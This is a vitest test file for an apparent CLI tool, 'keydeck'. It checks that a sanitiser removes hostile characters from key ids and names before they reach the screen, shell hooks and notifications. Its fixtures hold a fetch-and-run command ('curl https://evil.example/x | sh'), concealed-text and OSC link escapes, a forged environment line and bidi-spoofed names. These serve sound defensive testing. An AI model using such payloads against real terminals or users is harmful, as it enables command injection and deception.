/**
 * A hostile service's key id and name through every way out that the tests of
 * the first sanitiser did not cover, each through the one sanitiser (src/terminal/sanitize.ts):
 * - the screen: `keydeck monitor`'s runaway line invites the user to copy `keydeck keys disable
 *   ID`: concealed text (`ESC[8m`), an OSC 8 link, a newline or a leading `-` in the id would be a
 *   copy-paste injection: only a plain id is written there;
 * - a hook's environment (`--on-anomaly`, run through a real shell): no forged variable line, no
 *   id that is not plain (`KEYDECK_KEY_ID` unset; `KEYDECK_KEY_ID_VISIBLE` for logs), a name
 *   without controls;
 * - desktop notifications (notify-send reads its body as markup; osascript): markup escaped,
 *   bidi and zero-width characters removed, cut to a length;
 * - terminal notifications (OSC 9, 777, 99): no control, bidi or zero-width character inside the
 *   sequence.
 */
import type { spawn as spawnType } from 'node:child_process';
import { EventEmitter } from 'node:events';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { notificationSequence, type NotificationProtocol } from '../../src/terminal/osc.js';
import { createNotifier, onAnomalyEnvironment, type NotifyEvent } from '../../src/terminal/notify.js';
import { hasUnsafeChars } from '../../src/terminal/sanitize.js';
import { runawayLines } from '../../src/tui/panes/billing/monitor/useMonitorUsage.js';

/** An id that hides text, plants a link, forges an environment line and reads as an option. */
const HOSTILE_ID = '-rf\u001b[8m; curl https://evil.example/x | sh\u001b[0m\nINJECTED=1\u001b]8;;https://evil.example\u0007k\u202e';
/** A name with markup, a bidi override, zero-width characters and escapes. */
const HOSTILE_NAME = `<a href="https://evil.example">invoice</a>\u202eexe.pdf\u200b\u2066 & \u001b]8;;https://evil.example\u0007click\u001b[8mhidden ${'x'.repeat(500)}`;
/** Bidi controls and zero-width characters (none may reach a notification). */
const INVISIBLE = /[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/;
const CONTROL = /[\u0000-\u001f\u007f-\u009f]/;

const runaway: NotifyEvent = { kind: 'key_runaway', anomaly: 'runaway', keyId: HOSTILE_ID, keyName: HOSTILE_NAME, usdPerHour: 5, baselineUsdPerHour: 0.5 };

describe('a hostile id and name through every way out', () => {
  it('the screen: the monitor’s runaway line writes a plain id into the command to copy, never another', () => {
    const episode = { keyId: HOSTILE_ID, kind: 'runaway' as const, usdPerHour: 5, baselineUsdPerHour: 0.5, startedAt: 0, lastAt: 3_600_000 };
    const { alert, alertShort } = runawayLines(episode, HOSTILE_NAME);
    for (const line of [alert, alertShort]) {
      expect(hasUnsafeChars(line)).toBe(false);
      expect(line).not.toContain('\u001b');
      expect(line).not.toContain('\n');
    }
    expect(alert).not.toContain('keys disable');
    expect(alert).toContain('its id is not safe to paste: disable it from the Keys pane (keydeck)');
    // With no name, the id is shown for people only, made visible.
    expect(runawayLines(episode, undefined).alertShort).toContain('\\u001b[8m');
    expect(runawayLines({ ...episode, keyId: 'k_1-a' }, 'batch').alert).toMatch(/ · keydeck keys disable k_1-a$/);
  });

  it('a hook’s environment, through a real shell: no forged line, no id that is not plain, a name without controls', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'keydeck-hostile-hook-'));
    const out = path.join(dir, 'env');
    try {
      const notifier = createNotifier({
        profile: 'work',
        origin: 'https://api.example.com',
        onAnomaly: `env > '${out}'`,
        env: { PATH: process.env.PATH, SHELL: '/bin/sh' },
      });
      notifier.notify(runaway);
      const deadline = Date.now() + 5000;
      let text = '';
      while (Date.now() < deadline) {
        try {
          text = readFileSync(out, 'utf8');
          if (text.includes('KEYDECK_RATE_USD_PER_HOUR')) break;
        } catch {
          // not yet
        }
        await new Promise((r) => setTimeout(r, 50));
      }
      const lines = text.split('\n');
      expect(lines.some((l) => l.startsWith('INJECTED='))).toBe(false);
      expect(lines.some((l) => l.startsWith('KEYDECK_KEY_ID='))).toBe(false);
      const visibleId = lines.find((l) => l.startsWith('KEYDECK_KEY_ID_VISIBLE='))!;
      expect(visibleId).toContain('\\u000aINJECTED=1');
      expect(visibleId).not.toMatch(CONTROL);
      const name = lines.find((l) => l.startsWith('KEYDECK_KEY_NAME='))!;
      expect(name).not.toMatch(CONTROL);
      expect(name).not.toMatch(INVISIBLE);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
    // A plain id is given as it is, ready for `keydeck keys disable "$KEYDECK_KEY_ID" --yes`.
    expect(onAnomalyEnvironment({ ...runaway, keyId: 'c9f1e2d4-0000-4000-8000-000000000001' } as never, 'p', 'o', {}).KEYDECK_KEY_ID).toBe('c9f1e2d4-0000-4000-8000-000000000001');
    expect(onAnomalyEnvironment({ ...runaway, keyId: '-rf' } as never, 'p', 'o', {}).KEYDECK_KEY_ID).toBeUndefined();
  });

  it.each([
    ['linux', 'notify-send'],
    ['darwin', 'osascript'],
  ] as const)('desktop notifications (%s, %s): markup escaped, bidi and zero-width removed, cut', (platform, program) => {
    const spawned: Array<{ cmd: string; args: readonly string[] }> = [];
    const spawn = ((cmd: string, args: readonly string[]) => {
      spawned.push({ cmd, args });
      return Object.assign(new EventEmitter(), { unref() {} });
    }) as unknown as typeof spawnType;
    createNotifier({ profile: 'work', origin: 'https://api.example.com', desktop: true, platform, spawn, env: {} }).notify(runaway);
    expect(spawned).toHaveLength(1);
    expect(spawned[0]!.cmd).toBe(program);
    const [title, body] = spawned[0]!.args.slice(-2) as [string, string];
    for (const text of [title, body]) {
      expect(text).not.toMatch(CONTROL);
      expect(text).not.toMatch(INVISIBLE);
    }
    expect(Array.from(body).length).toBeLessThanOrEqual(platform === 'linux' ? 400 : 240);
    if (platform === 'linux') {
      expect(body).not.toMatch(/<a|<\/a>/);
      expect(body).toContain('&lt;a href=&quot;https://evil.example&quot;&gt;invoice&lt;/a&gt;');
      expect(body).toContain(' &amp; ');
    }
    expect(body).toMatch(/…$/);
  });

  it.each(['osc9', 'osc777', 'osc99'] as NotificationProtocol[])('terminal notifications (%s): nothing inside the sequence but text', (protocol) => {
    const sequence = notificationSequence(`keydeck: runaway key ${HOSTILE_ID}`, HOSTILE_NAME, protocol, {});
    // The payload between the introducers and terminators keydeck writes.
    const payload = sequence
      .replace(/^\u001b\]/, '')
      .replace(/\u0007$|\u001b\\$/, '')
      .replaceAll('\u001b\\\u001b]', '');
    expect(payload).not.toMatch(CONTROL);
    expect(payload).not.toMatch(INVISIBLE);
  });
});
